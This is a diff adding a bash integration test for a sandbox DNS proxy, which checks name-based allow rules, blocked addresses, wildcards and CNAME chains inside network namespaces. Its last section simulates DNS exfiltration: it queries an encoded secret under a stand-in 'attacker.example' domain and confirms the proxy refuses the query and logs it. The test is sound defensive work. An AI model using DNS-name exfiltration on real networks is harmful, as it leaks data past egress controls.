@@ -1,0 +1,148 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
+# The DNS proxy end to end (docs/dns-proxy.md), with dnsmasq as the upstream
+# (its query log shows what left the host) and dig in the sandbox asking a
+# server address of its choice. The host side lives in a namespace of its
+# own (the jail), with the proxy, dnsmasq and the services; nothing leaves it.
+set -u
+# shellcheck source=tests/integration/lib.sh
+. "$(dirname "$0")/lib.sh"
+# shellcheck disable=SC2119 # vr_init takes tool names, not our arguments
+vr_init dig dnsmasq
+
+jail=vrjail$VR_ID sbx=vrsbx$VR_ID
+vr_add_netns "$jail"
+vr_add_netns "$sbx"
+{
+	ip -n "$jail" link add vrj type veth peer name vrk netns "$sbx" &&
+		ip -n "$jail" addr add 10.233.1.1/24 dev vrj &&
+		for a in 203.0.113.10 203.0.113.20 203.0.113.30 203.0.113.99 198.51.100.66; do
+			ip -n "$jail" addr add $a/32 dev vrj || exit 1
+		done &&
+		ip -n "$jail" -6 addr add fd00:233:1::1/64 dev vrj nodad &&
+		ip -n "$jail" -6 addr add 2001:db8::10/128 dev vrj nodad &&
+		ip -n "$jail" link set vrj up &&
+		ip -n "$sbx" addr add 10.233.1.2/24 dev vrk &&
+		ip -n "$sbx" -6 addr add fd00:233:1::2/64 dev vrk nodad &&
+		ip -n "$sbx" link set vrk up &&
+		ip -n "$sbx" route add default via 10.233.1.1 &&
+		ip -n "$sbx" -6 route add default via fd00:233:1::1
+} || vr_fatal "the jail and its sandbox"
+vj() { vr -n "$jail" "$@"; }
+
+# the upstream: a small zone, every query logged
+ip netns exec "$jail" dnsmasq --keep-in-foreground --no-resolv --no-hosts --bind-interfaces \
+	--listen-address=10.233.1.1 --port=5353 --log-queries --log-facility="$VR_TMP/dnsmasq.log" \
+	--pid-file="$VR_TMP/dnsmasq.pid" \
+	--host-record=api.example.test,203.0.113.10,2001:db8::10 \
+	--address=/cdn.example.test/203.0.113.20 \
+	--cname=cname.example.test,edge.example.test --host-record=edge.example.test,203.0.113.30 \
+	--host-record=bad.example.test,203.0.113.99 \
+	--address=/attacker.example/198.51.100.66 2>"$VR_TMP/dnsmasq.err" &
+vr_pids+=($!)
+vr_start_servers_in() { # the services, in the jail: TCP 443 and 8080 on every address
+	cat >"$VR_TMP/svc.py" <<'PY'
+import socket, sys, threading, time
+def serve(fam, port):
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    if fam == socket.AF_INET6:
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+    s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", port)); s.listen(16)
+    while True:
+        c, _ = s.accept(); c.sendall(b"vr"); c.close()
+for port in (443, 8080):
+    for fam in (socket.AF_INET, socket.AF_INET6):
+        threading.Thread(target=serve, args=(fam, port), daemon=True).start()
+time.sleep(0.3); open(sys.argv[1], "w").close(); time.sleep(300)
+PY
+	ip netns exec "$jail" "$VR_PY" "$VR_TMP/svc.py" "$VR_TMP/svc.ready" 2>>"$VR_TMP/svc.log" &
+	vr_pids+=($!)
+	vr_wait_for 3 test -e "$VR_TMP/svc.ready" || vr_fatal "services: $(cat "$VR_TMP/svc.log")"
+}
+vr_start_servers_in
+vr_wait_for 3 test -e "$VR_TMP/dnsmasq.pid" || vr_fatal "dnsmasq: $(cat "$VR_TMP/dnsmasq.err")"
+
+# sandbox side: dig at a server address of its choice, and a TCP connect
+lookup() { # SERVER NAME TYPE [+tcp]: the answer's addresses, or its status when it has none
+	local out
+	out=$(ip netns exec "$sbx" dig +time=2 +tries=1 +noall +answer +comments ${4:+"$4"} "@$1" "$2" "$3")
+	if grep -q "status: NOERROR" <<<"$out"; then
+		awk '$4 == "A" || $4 == "AAAA" { print $5 }' <<<"$out" | sort | tr '\n' ' ' | sed 's/ $//'
+	else
+		sed -n 's/.*status: \([A-Z]*\).*/\1/p' <<<"$out" | head -1
+	fi
+}
+expect_lookup() { # NAME WANT SERVER QNAME TYPE [+tcp]
+	local got
+	got=$(lookup "$3" "$4" "$5" "${6:-}")
+	if [ "$got" = "$2" ]; then
+		ok "$1: $4 $5 -> $got"
+	else
+		not_ok "$1: $4 $5 -> \"$got\", want \"$2\""
+	fi
+}
+connects() { # ADDR PORT
+	ip netns exec "$sbx" "$VR_PY" -c 'import socket, sys
+try:
+    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=1)
+    sys.exit(0 if s.recv(2) == b"vr" else 1)
+except OSError:
+    sys.exit(1)' "$1" "$2"
+}
+expect_connect() { # NAME reach|blocked ADDR PORT: three tries (the first may wait for neighbours)
+	local got=blocked i
+	for i in 1 2 3; do
+		connects "$3" "$4" && got=reach && break
+	done
+	if [ "$got" = "$2" ]; then
+		ok "$1: $3:$4 $got"
+	else
+		not_ok "$1: $3:$4 $got, want $2"
+	fi
+}
+upstream_saw() { grep -c "query\[.*\] $1 from" "$VR_TMP/dnsmasq.log" 2>/dev/null; }
+
+policy=$(vr_policy dns '{"default": "deny", "dns_proxy": true,
+	"allow": ["api.example.test:443/tcp", "*.cdn.example.test:443/tcp",
+		  "cname.example.test:443/tcp", "bad.example.test:443/tcp"],
+	"block": ["203.0.113.99"]}')
+expect "attach with name rules and dns_proxy" vj attach vrj --policy "$policy"
+vj --resolver 10.233.1.1:5353 dns >"$VR_TMP/proxy.log" 2>&1 &
+vr_pids+=($!)
+sleep 0.5
+
+expect_connect "before any lookup" blocked 203.0.113.10 443
+expect_lookup "an allowed name, asking any server" "203.0.113.10" 192.0.2.53 api.example.test A
+expect_connect "its address, allowed port" reach 203.0.113.10 443
+expect_connect "its address, another port" blocked 203.0.113.10 8080
+expect_lookup "its IPv6 address" "2001:db8::10" 198.51.100.7 api.example.test AAAA
+expect_connect "its IPv6 address" reach 2001:db8::10 443
+expect_lookup "over IPv6 to the proxy" "203.0.113.10" 2001:db8::53 api.example.test A
+expect_lookup "over TCP" "203.0.113.10" 192.0.2.53 api.example.test A +tcp
+expect_lookup "over TCP and IPv6" "2001:db8::10" 2001:db8::53 api.example.test AAAA +tcp
+expect_lookup "refused over TCP" "NXDOMAIN" 192.0.2.53 x.attacker.example A +tcp
+expect_lookup "a wildcard's name" "203.0.113.20" 192.0.2.53 a.b.cdn.example.test A
+expect_connect "a wildcard's address" reach 203.0.113.20 443
+expect_lookup "not the wildcard's own suffix" "NXDOMAIN" 192.0.2.53 cdn.example.test A
+expect_lookup "a CNAME chain" "203.0.113.30" 192.0.2.53 cname.example.test A
+expect_connect "the chain's end" reach 203.0.113.30 443
+expect_lookup "the chain's end by its own name" "NXDOMAIN" 192.0.2.53 edge.example.test A
+expect_lookup "an allowed name with a blocked address" "203.0.113.99" 192.0.2.53 bad.example.test A
+expect_connect "the blocked address stays blocked" blocked 203.0.113.99 443
+before=$(upstream_saw attacker.example)
+expect_lookup "exfiltration in a name" "NXDOMAIN" 192.0.2.53 c2VjcmV0.attacker.example TXT
+expect_lookup "exfiltration, another server" "NXDOMAIN" 203.0.113.10 c2VjcmV0.attacker.example A
+after=$(upstream_saw attacker.example)
+if [ "$before" = "$after" ]; then
+	ok "the refused names never reached the upstream"
+else
+	not_ok "the upstream saw attacker.example $((after - before)) times"
+fi
+expect_connect "the exfiltration domain's address" blocked 198.51.100.66 443
+if grep -q "^refused c2VjcmV0.attacker.example" "$VR_TMP/proxy.log"; then
+	ok "the proxy logged the refused name"
+else
+	not_ok "the proxy's log: $(tail -3 "$VR_TMP/proxy.log")"
+fi
+expect "detach" vj detach vrj
